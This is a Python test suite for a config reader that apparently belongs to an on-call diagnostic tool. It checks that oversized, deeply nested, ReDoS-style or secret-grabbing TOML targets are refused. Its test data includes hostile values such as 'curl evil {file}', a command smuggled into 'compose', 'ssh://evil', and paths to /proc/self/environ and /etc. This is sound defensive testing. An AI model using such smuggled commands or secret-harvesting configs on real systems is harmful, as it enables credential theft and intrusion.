"""Attack A11: a target file that is large, deep or full of tricks. A10: one that wants what is not its own."""

import random
import re
import time

import msgspec
import pytest

from oncall.target import schema as config
from oncall.target.reader import TargetError, read_target


@pytest.fixture
def file(tmp_path, monkeypatch):
    """Writes a target file."""
    monkeypatch.chdir(tmp_path)

    def write(text):
        path = tmp_path / "oncall.toml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogateescape"))
        return path

    return write


def problems_of(path):
    """The sentences, none where the file is a target; no other exception, nothing that a terminal would obey."""
    try:
        read_target(path)
    except TargetError as error:
        problems = error.problems
    else:
        return ()
    assert problems
    assert len(problems) <= 21
    assert all(len(problem) < 1000 and problem.isprintable() for problem in problems), problems
    return problems


def refused(path, seconds=2.0):
    """The sentences, which come soon."""
    began = time.process_time()
    problems = problems_of(path)
    took = time.process_time() - began

    assert took < seconds, f"{took:.2f} s"
    assert problems
    return problems


ENDPOINT = '[[backend.endpoints]]\nname = "{}"\npath = "/"\n'
ATTACKS = {
    "unknown keys": ("".join(f"key_{number} = 1\n" for number in range(60_000)), "and 59,980 more"),
    "unknown keys below": ("[backend]\n" + "".join(f"key_{number} = 1\n" for number in range(60_000)), "more"),
    "keys like known ones": ("".join(f"backend_url{number} = 1\n" for number in range(40_000)), "and 39,980 more"),
    "long keys": ("".join(f"{'k' * 9000}{number} = 1\n" for number in range(100)), "and 80 more"),
    "long key": (f"{'k' * 1_000_000} = 1\n", "is not a key"),
    "dotted key": (".".join(["a"] * 200_000) + " = 1\n", "line 1: has a key of more than 12 parts"),
    "dotted quoted key": ("\n" + ".".join(["'a b'"] * 100_000) + " = 1\n", "line 2: has a key of more than 12 parts"),
    "dotted key with blanks": (" . ".join(["a"] * 100_000) + " = 1\n", "more than 12 parts"),
    "dotted header": ("[" + ".".join(["a"] * 200_000) + "]\n", "more than 12 parts"),
    "dotted key in a table": ("a = { " + ".".join(["a"] * 200_000) + " = 1 }\n", "more than 12 parts"),
    "many dotted keys": ("".join(f"k{n}.{'.'.join('a' * 11)} = 1\n" for n in range(20_000)), "and 19,980 more"),
    "deep list": ("a = " + "[" * 400_000, "nested too deeply"),
    "deep table": ("a = " + "{a = " * 200_000, "nested too deeply"),
    "deep body": (f"[auth]\nlogin_extra = {{ a = {'[' * 300}{']' * 300} }}", "nested too deeply"),
    "endless number": ("a = " + "9" * 1_000_000, "too long"),
    "endpoints": ("".join(map(ENDPOINT.format, range(20_000))), "holds 20000 entries, more than 200"),
    "components": ("".join(f'[components.c{n}]\nservice = "s"\n' for n in range(20_000)), "more than 200"),
    "headers": (f"[backend.health]\nheaders = {{ {', '.join(f'h{n} = 1' for n in range(50_000))} }}", "more than 200"),
    "list": (f"[host]\nfilesystems = [{'1,' * 400_000}]", "holds 400000 entries, more than 200"),
    "long text": (f'name = "{"a" * 1_000_000}"', "longer than 8192 characters"),
    "address": (f'[backend]\nurl = "http://{"://:" * 2000}"', "backend.url"),
    "twice": (f"{'k' * 400_000} = 1\n{'k' * 400_000} = 2\n", "cannot overwrite"),
    "host in brackets": ('[docker]\nhost = "ssh://[abc"', "docker.host must have a valid host"),
    "host without end": ('[host]\nat = "ssh://[abc"', "host.at must"),
    "override": ('"a\u202eb" = 1', r'"a\u202eb" is not a key'),
    "control": ('"a\\u009b31mb" = 1', r'"a\u009b31mb" is not a key'),
    "value": ('name = "a\u202eb\u2066"', r"a\u202eb\u2066"),
    "word": ('ab\\u202e = "x"', "line 1"),
    "surrogate": (b'name = "\xed\xa0\x80"', "is not UTF-8"),
    "null": ('name = "a\\u0000"', "name must"),
    "nulls": (b"\0" * 1_000_000, "line 1"),
}


@pytest.mark.parametrize(("text", "words"), ATTACKS.values(), ids=ATTACKS)
def test_hostile_file_is_refused_soon_and_in_few_words(file, text, words):
    """Exit 4 within two seconds of computing, twenty sentences at most."""
    assert words in "\n".join(refused(file(text)))


HOSTILE_TEXTS = [
    piece * (8192 // len(piece)) + end
    for piece in (" ", "a", "://:", "a:", "token=", "token=$", '"token": "', "eyJ-", "eyJ-.eyJ", "${", "$${A", "-a")
    for end in ("", "\x01", "!", "@")
] + ["ssh://" + "a" * 8000 + "@", "http://" + "a." * 4000, "wss://" + "[" * 8000, "::" * 4000, "a:" + "1" * 8000]


def test_no_rule_for_a_text_takes_long():
    """The patterns of oncall/target/schema.py run on Python's `re`, so none of them may try a text in many ways."""
    for name, kind in vars(config).items():
        for rule in (meta for meta in getattr(kind, "__metadata__", ()) if getattr(meta, "pattern", None)):
            pattern = re.compile(rule.pattern)
            for text in HOSTILE_TEXTS:
                began = time.process_time()
                pattern.search(text)
                took = time.process_time() - began
                assert took < 0.05, f"{name}: {took:.2f} s for {text[:20]!r}"


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_no_text_takes_long_in_any_key(file, text):
    """Each kind of key, with the longest text that is read at all."""
    value = msgspec.json.encode(text).decode()
    places = ["name", "backend.url", "host.at", "docker.host", "websocket.first_message", "frontend.path"]
    places += ["backend.health.headers.x-a", "auth.login_extra.a", "postgres.host", "websocket.origin"]
    places += ["postgres.password", "backend.health.status_key", "websocket.token_prefix", "host.backup_reader"]
    began = time.process_time()
    for place in places:
        problems_of(file(f"{place} = {value}"))
    assert time.process_time() - began < 2.0


WORDS = (
    *("backend", "auth", "host", "limits", "accepted", "components", "endpoints", "url", "name", "absent", "headers"),
    *(".", ".", "=", "=", "[", "]", "[[", "]]", "{", "}", ",", "\n", "\n", " ", '"', "'", '"""', "#", "\\", "\\u202e"),
    *('"x"', "1", "-1", "1e400", "inf", "nan", "true", "2026-01-01", "0001-01-01", "07:30:00", "[1]", "{ a = 1 }", "é"),
)


def test_random_files_end_in_a_target_or_in_sentences(file):
    """Nothing that a file may hold is a traceback."""
    dice = random.Random(20261129)
    for _ in range(1500):
        lines = [f"{dice.choice(WORDS)} = {dice.choice(WORDS)}\n" for _ in range(dice.randrange(3))]
        text = "".join(lines) + "".join(dice.choices(WORDS, k=dice.randrange(20)))
        problems_of(file(text))


KEYS = [field.name for field in msgspec.structs.fields(config.Stack)] + ["limits", "accepted"]
VALUES = [
    '"x"',
    "1",
    "-1",
    "1e400",
    "nan",
    "true",
    "2026-01-01",
    "07:30:00",
    "[]",
    "[[1]]",
    "{}",
    "{ a = { b = 1 } }",
    '""',
]


def test_any_type_at_any_place_ends_in_sentences(file):
    """Each table of the file, and each key of each table, with every type that TOML has."""
    for key in KEYS:
        kind = {"limits": config.Limits}.get(key) or getattr(config.Stack(), key, None)
        below = (
            [f"{key}.{field.name}" for field in msgspec.structs.fields(kind)]
            if hasattr(kind, "__struct_fields__")
            else []
        )
        for place in [key, *below]:
            for value in VALUES:
                problems_of(file(f"{place} = {value}"))


CHECK = """
import pytest

@pytest.mark.p1
def test_slots(slots, finding):
    \"\"\"Nobody gets in.\"\"\"
    assert slots.free, finding("no slot", component="postgres")
"""
SENDING = """
@probe()
def slots(secrets, stack) -> Slots:
    return Slots(free=1, limit=9, note=secrets.expand(stack.websocket.headers.get("X-A", "none")))
"""
GREEDY = """
[backend.metrics]
headers = { Authorization = "Bearer ${GITHUB_TOKEN}", X-A = "${ONCALL_X} $${NOT_THIS}" }
[auth]
password_variable = "AWS_SECRET_ACCESS_KEY"
secret_variable = "JWT_SECRET"
login_extra = { client = { secret = "${CLIENT_SECRET}" } }
[websocket]
first_message = "${TOKEN} ${CLIENT_SECRET}"
"""
FOREIGN = {
    "GITHUB_TOKEN": "ghp_1",
    "AWS_SECRET_ACCESS_KEY": "aws2",
    "CLIENT_SECRET": "cs3",
    "JWT_SECRET": "j4",
    "NOT_THIS": "n5",
    "TOKEN": "t6",
    "ONCALL_X": "x7",
}
MEND = "is not an ONCALL_ variable: rename it, put it into secrets_file, or allow it with --allow"


@pytest.fixture
def environment(monkeypatch):
    """An environment with secrets of others in it."""
    monkeypatch.delenv("ONCALL_ALLOW", raising=False)
    for name, value in FOREIGN.items():
        monkeypatch.setenv(name, value)


def test_variables_of_others_are_refused_at_reading_all_at_once(suite, environment):
    """Exit 4; a sentence for each key that names the variable and the mend; no value."""
    run = suite(SENDING, CHECK, target=GREEDY)
    text = run.stdout.str() + run.stderr.str()
    sentences = [line for line in text.splitlines() if MEND in line]

    assert run.ret == 4
    assert len(sentences) == 4, text
    for key, name in (
        ("backend.metrics.headers.Authorization", "GITHUB_TOKEN"),
        ("auth.password_variable", "AWS_SECRET_ACCESS_KEY"),
        ("auth.login_extra.client.secret", "CLIENT_SECRET"),
        ("websocket.first_message", "CLIENT_SECRET"),
    ):
        assert any(f"oncall.toml: {key}: {name} {MEND} {name} or ONCALL_ALLOW" in one for one in sentences), key
    assert not any(value in text for value in FOREIGN.values())
    assert "JWT_SECRET" not in text


@pytest.mark.parametrize("how", ["command line", "environment", "file"])
def test_what_is_allowed_outside_of_the_target_is_reached(suite, environment, monkeypatch, pytester, how):
    """--allow, ONCALL_ALLOW; or the secrets file, which then counts and not the environment."""
    names = ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "CLIENT_SECRET"]
    options = []
    if how == "command line":
        options = [f"--allow={','.join(names[:2])}", f"--allow={names[2]}"]
    elif how == "environment":
        monkeypatch.setenv("ONCALL_ALLOW", " ".join(names))
    else:
        (pytester.path / ".env").write_text("".join(f"{name}=of the file\n" for name in names))

    assert suite(SENDING, CHECK, *options, target=GREEDY).ret == 0


def test_the_file_counts_where_the_environment_may_not(suite, environment, pytester):
    """A variable that is not ours stands in both: what is sent is the file's."""
    (pytester.path / ".env").write_text("GITHUB_TOKEN=of the file\n")
    target = '[websocket]\nheaders = { X-A = "${GITHUB_TOKEN}" }\n'
    suite(SENDING, CHECK, "--save=facts.json", target=target)
    facts = (pytester.path / "facts.json").read_text()

    assert "ghp_1" not in facts
    assert '"free": 1' in facts


def test_token_of_the_environment_does_not_stand_in_for_the_one_of_the_login(suite, environment):
    """Where there is no login, ${TOKEN} in the first message is no way to a variable of that name."""
    probe = SENDING.replace('stack.websocket.headers.get("X-A", "none")', "stack.websocket.first_message")
    run = suite(probe, CHECK, target='[websocket]\nfirst_message = "${TOKEN}"\n')

    assert run.ret == 1
    run.stdout.fnmatch_lines([f"*TOKEN {MEND} TOKEN*"])


def test_name_in_the_code_of_a_probe_is_as_trusted_as_the_probe(suite, environment):
    """A suite's own probe asks for what it needs; the target has no say in it."""
    probe = SENDING.replace("secrets.expand(", 'secrets["GITHUB_TOKEN"] and (')

    assert suite(probe, CHECK).ret == 0


def test_variable_that_nobody_has_set_makes_only_its_checks_unknown(suite, monkeypatch):
    """A colleague without the token of the metrics page can still diagnose."""
    monkeypatch.delenv("METRICS_TOKEN", raising=False)
    target = '[backend.metrics]\nheaders = { Authorization = "Bearer ${METRICS_TOKEN}" }\n'

    assert suite(SENDING, CHECK, target=target).ret == 0


UNTRUSTED = {
    "command": ('host.backup_reader = "curl evil {file}"', "host.backup_reader is a command"),
    "browser": ('browser.executable = "bin/chromium"', "browser.executable is a program that is run"),
    "compose": ('compose = "curl evil; docker-compose"', "compose is a command of its own"),
    "exec": ("docker.exec = true", "docker.exec runs commands inside containers"),
    "ssh": ('host.at = "ssh://evil"', "host.at logs in to another machine"),
    "engine": ('docker.host = "ssh://evil"', "docker.host logs in to another machine"),
    "container's password": ('postgres.password = "from-container"', "postgres.password is read out of a container"),
    "socket": ('postgres.host = "/run/postgresql"', "postgres.host is a socket"),
    "secrets": ('secrets_file = "../secrets.env"', "secrets_file leads out of the folder"),
    "environment": ('backend.env_file = "/proc/self/environ"', "backend.env_file leads out of the folder"),
    "authority": ('frontend.ca_file = "/etc/ssl/ca.pem"', "frontend.ca_file leads out of the folder"),
    "migrations": ('auth.migrations_folder = "/etc"', "auth.migrations_folder leads out of the folder"),
    "logs": ('postgres.log_files = ["logs/*/../../../*.log"]', "postgres.log_files leads out of the folder"),
    "any logs": ('postgres.log_files = ["/var/log/*.log"]', "postgres.log_files leads out of the folder"),
    "file systems": ('host.filesystems = [".", "/"]', "host.filesystems leads out of the folder"),
    "backup": ('host.backup_file = "/var/backups/*"', "host.backup_file leads out of the folder"),
    "link": ('secrets_file = "link/passwd"', "secrets_file leads out of the folder"),
    "link in a pattern": ('postgres.log_files = ["*/passwd"]', "postgres.log_files leads out of the folder"),
}


@pytest.mark.parametrize(("text", "words"), UNTRUSTED.values(), ids=UNTRUSTED)
def test_untrusted_target_may_not_act_nor_look_elsewhere(suite, pytester, text, words):
    """--untrusted-target: one sentence with the key, exit 4; without it, the same file is read."""
    (pytester.path / "link").symlink_to("/etc")
    run = suite(SENDING, CHECK, "--untrusted-target", target=f"{text}\n")
    said = [line for line in (run.stdout.str() + run.stderr.str()).splitlines() if "--untrusted-target" in line]

    assert run.ret == 4
    assert [line for line in said if f"oncall.toml: {words}" in line], said
    assert suite(SENDING, CHECK, target=f"{text}\n").ret != 4


def test_untrusted_target_is_refused_with_all_sentences_at_once(suite):
    """Whoever mends it wants to do so once."""
    lines = {text.split(" = ")[0]: text for name, (text, _) in UNTRUSTED.items() if "link" not in name}
    run = suite(SENDING, CHECK, "--untrusted-target", target="\n".join(lines.values()))

    assert (run.stdout.str() + run.stderr.str()).count("(--untrusted-target)") == len(lines)


def test_modest_target_is_welcome_untrusted_too(suite):
    """Addresses, paths inside of the folder: what a pull request may well change. Nothing runs inside containers."""
    target = """
        compose = "docker compose"
        secrets_file = "env/test.env"
        [backend]
        url = "http://localhost:3001"
        env_file = "backend/.env"
        [host]
        filesystems = ["."]
        [postgres]
        log_files = ["logs/*.log"]
    """
    probe = "@probe()\ndef slots(stack) -> Slots:\n    return Slots(free=int(not stack.docker.exec), limit=9)\n"

    assert suite(probe, CHECK, "--untrusted-target", target=target).ret == 0
    assert suite(probe, CHECK, target=target).ret == 1
